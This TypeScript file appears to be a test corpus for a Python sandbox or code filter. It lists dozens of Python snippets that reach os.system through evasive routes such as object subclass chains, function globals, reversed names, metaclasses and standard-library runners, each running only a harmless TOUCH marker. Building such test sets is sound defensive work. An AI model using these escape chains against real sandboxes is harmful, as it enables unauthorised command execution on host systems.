/** A command of the host by Python's own means: the many ways to `system`. */
import { attacks, inPython } from '../payload.ts';

export const commands = attacks(
  { language: 'python', class: 'os, posix and object chains', kind: 'marker', control: 'plain' },
  {
    'os.system': inPython('import os\nos.system(TOUCH)'),
    'posix.system': inPython('import posix\nposix.system(TOUCH)'),
    __import__: inPython('__import__("os").system(TOUCH)'),
    'sys.modules': inPython('import sys\nsys.modules["posix"].system(TOUCH)'),
    'the subclasses of object': inPython(
      'for one in ().__class__.__base__.__subclasses__():\n    if one.__name__ == "_wrap_close": one.__init__.__globals__["system"](TOUCH)',
    ),
    'the subclasses of object, by a loader': inPython(
      'for one in object.__subclasses__():\n    if one.__name__ == "BuiltinImporter": one.load_module("posix").system(TOUCH)',
    ),
    'the globals of a function of the library': inPython('import os\nos.walk.__globals__["system"](TOUCH)'),
    'the module inside another module': inPython('import random\nrandom._os.system(TOUCH)'),
    'builtins by a built-in function': inPython('print.__self__.__import__("os").system(TOUCH)'),
    'builtins by a frame': inPython('import sys\nsys._getframe().f_builtins["__import__"]("os").system(TOUCH)'),
    'builtins by the globals of a function': inPython(
      'double.__globals__["__builtins__"]["__import__"]("os").system(TOUCH)',
    ),
    'names put together': inPython('getattr(__import__("o" + "s"), "sys" + "tem")(TOUCH)'),
    'names backwards': inPython('getattr(__import__("so"[::-1]), "metsys"[::-1])(TOUCH)'),
    'a format with attributes': inPython(
      'import os, string\nstring.Formatter().get_field("0.system", (os,), {})[0](TOUCH)',
    ),
    'operator.attrgetter': inPython('import os, operator\noperator.attrgetter("system")(os)(TOUCH)'),
    'operator.methodcaller': inPython('import os, operator\noperator.methodcaller("system", TOUCH)(os)'),
    'functools.partial': inPython('import os, functools\nfunctools.partial(os.system)(TOUCH)'),
    'functools.reduce': inPython('import functools\nfunctools.reduce(getattr, ["system"], __import__("os"))(TOUCH)'),
    'a map that is run': inPython('import os\nlist(map(os.system, [TOUCH]))'),
    'a sort key': inPython('import os\nsorted([TOUCH], key=os.system)'),
    'a decorator': inPython('import os\n@os.system\n@lambda _: TOUCH\ndef nothing(): pass'),
    'an operator': inPython(
      'import os\nclass Run:\n    __truediv__ = lambda self, text: os.system(text)\nRun() / TOUCH',
    ),
    'a subscript of a class': inPython('import os\nclass Run:\n    __class_getitem__ = os.system\nRun[TOUCH]'),
    'a default of a dictionary': inPython(
      'import os\nclass Run(dict):\n    def __missing__(self, key): return os.system(key)\nRun()[TOUCH]',
    ),
    'a substitution by a function': inPython(
      'import os, re\nre.sub(".+", lambda found: str(os.system(found[0])), TOUCH)',
    ),
    'a class that is made': inPython(
      'import os\nclass Meta(type):\n    def __init__(cls, *rest): os.system(TOUCH)\nclass Made(metaclass=Meta): pass',
    ),
    'a subclass that is noted': inPython(
      'import os\nclass Base:\n    def __init_subclass__(cls): os.system(TOUCH)\nclass Made(Base): pass',
    ),
    'a descriptor that learns its name': inPython(
      'import os\nclass Named:\n    def __set_name__(self, owner, name): os.system(TOUCH)\nclass Made: x = Named()',
    ),
    'an exception that is matched': inPython(
      'import os\nclass Run(Exception):\n    def __str__(self): return str(os.system(TOUCH))\ntry: raise Run\nexcept Run as error: str(error)',
    ),
    'a context manager': inPython(
      'import os\nclass Run:\n    def __enter__(self): os.system(TOUCH)\n    def __exit__(self, *rest): pass\nwith Run(): pass',
    ),
    'a coroutine run by hand': inPython(
      'import os\nasync def run(): os.system(TOUCH)\ntry: run().send(None)\nexcept StopIteration: pass',
    ),
    'a generator that is closed': inPython(
      'import os\ndef run():\n    try: yield\n    finally: os.system(TOUCH)\none = run()\nnext(one)\none.close()',
    ),
    timeit: inPython(
      'import timeit\ntimeit.timeit("os.system(TOUCH)", "import os", number=1, globals={"TOUCH": TOUCH})',
    ),
    cProfile: inPython('import cProfile\ncProfile.runctx("__import__(\'os\').system(TOUCH)", globals(), {})'),
    bdb: inPython('import bdb\nbdb.Bdb().runcall(__import__("os").system, TOUCH)'),
    trace: inPython('import trace, os\ntrace.Trace(count=0, trace=0).runfunc(os.system, TOUCH)'),
    doctest: inPython(
      'import doctest, os\ndoctest.run_docstring_examples(">>> os.system(TOUCH)", {"os": os, "TOUCH": TOUCH})',
    ),
    'a configuration of logging': inPython(
      'import logging.config\nlogging.config.dictConfig({"version": 1, "filters": {"x": {"()": "os.system", "command": TOUCH}}})',
    ),
    'code of an interactive console': inPython(
      'import code\ncode.InteractiveInterpreter({"TOUCH": TOUCH}).runsource("__import__(\'os\').system(TOUCH)")',
    ),
    'a command line of its own': inPython(
      'import cmd, os\nclass Run(cmd.Cmd):\n    def do_x(self, _): os.system(TOUCH)\nRun().onecmd("x")',
    ),
    'a scheduler': inPython(
      'import sched, os\none = sched.scheduler()\none.enter(0, 1, os.system, (TOUCH,))\none.run()',
    ),
    'an annotation': inPython(
      'import os, typing\ndef run(x: "os.system(TOUCH)"): pass\ntyping.get_type_hints(run, {"os": os, "TOUCH": TOUCH})',
    ),
    'a data class': inPython(
      'import dataclasses, os\ndataclasses.make_dataclass("Run", [("x", int, dataclasses.field(default_factory=lambda: os.system(TOUCH)))])()',
    ),
    'an enumeration': inPython(
      'import enum, os\nclass Run(enum.Enum):\n    X = 1\n    @classmethod\n    def _missing_(cls, value): return os.system(value)\nRun(TOUCH)',
    ),
  },
);
